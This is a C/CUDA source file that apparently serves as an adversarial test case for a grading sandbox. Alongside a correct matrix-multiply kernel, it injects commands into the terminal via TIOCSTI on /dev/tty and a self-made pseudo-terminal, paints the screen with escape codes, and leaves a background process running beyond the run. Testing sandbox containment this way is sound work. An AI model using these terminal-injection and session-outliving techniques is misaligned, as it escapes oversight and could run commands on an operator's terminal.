// attack: gets a terminal of its own and reaches through it: script -q -c
// (a pseudo-terminal and a session with it as controlling terminal), the
// same by hand (posix_openpt, setsid, TIOCSCTTY) and /dev/tty; pushes a
// command line into each (TIOCSTI) and paints its screen; leaves script
// running in the background holding a pty and the run's own output (it
// must die with the run, and the grader must not wait for it); then does
// the lab
// expect: full
#define _GNU_SOURCE
#include "lab.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

/* A command line pushed into the terminal fd's input, and a screen painted. */
static void push_into(int fd, const char *which)
{
    const char *line = "echo @MARK@-pushed\n";
    int pushed = 0;
    for (const char *c = line; *c; c++)
        pushed += ioctl(fd, TIOCSTI, c) == 0;
    const char *paint = "\033[2J\033[H@MARK@-painted\n";
    ssize_t w = write(fd, paint, strlen(paint));
    printf("pty_script: %s: pushed %d characters, painted %zd bytes\n", which, pushed, w);
}

/* A pty of its own by hand: a child in a session of its own with the pty
 * as its controlling terminal, which then opens /dev/tty. */
static void pty_by_hand(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) {
        printf("pty_script: no pseudo-terminal\n");
        if (master >= 0)
            close(master);
        return;
    }
    const char *name = ptsname(master);
    printf("pty_script: got %s\n", name ? name : "?");
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        int slave = name ? open(name, O_RDWR) : -1;
        if (slave >= 0 && ioctl(slave, TIOCSCTTY, 0) == 0) {
            push_into(slave, name);
            int tty = open("/dev/tty", O_RDWR);
            if (tty >= 0)
                push_into(tty, "its /dev/tty");
        }
        _exit(0);
    }
    if (pid > 0)
        waitpid(pid, NULL, 0);
    close(master);
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    int tty = open("/dev/tty", O_RDWR);
    printf("pty_script: /dev/tty %s\n", tty >= 0 ? "opened: terminal reached" : "refused");
    if (tty >= 0)
        push_into(tty, "/dev/tty");
    fflush(stdout);
    /* script's own terminal: what it runs reaches for /dev/tty */
    int rc = system("script -q -c 'printf \"\\033[2J@MARK@-painted\\n\" > /dev/tty; "
                    "perl -e \"ioctl(STDIN, 0x5412, \\$_) for split //, qq(echo @MARK@-pushed\\\\n)\" 2>/dev/null; "
                    "echo pty_script: script ran' /dev/null < /dev/null");
    printf("pty_script: script ended with %d\n", rc);
    pty_by_hand();
    /* left running: script and its child holding a pty, the run's output
     * and the mark on their command lines */
    rc = system("script -q -c 'sleep 600 # @MARK@-left' /dev/null < /dev/null &");
    printf("pty_script: left script running (%d)\n", rc);
    fflush(stdout);
    honest(M, N, P, width);
}
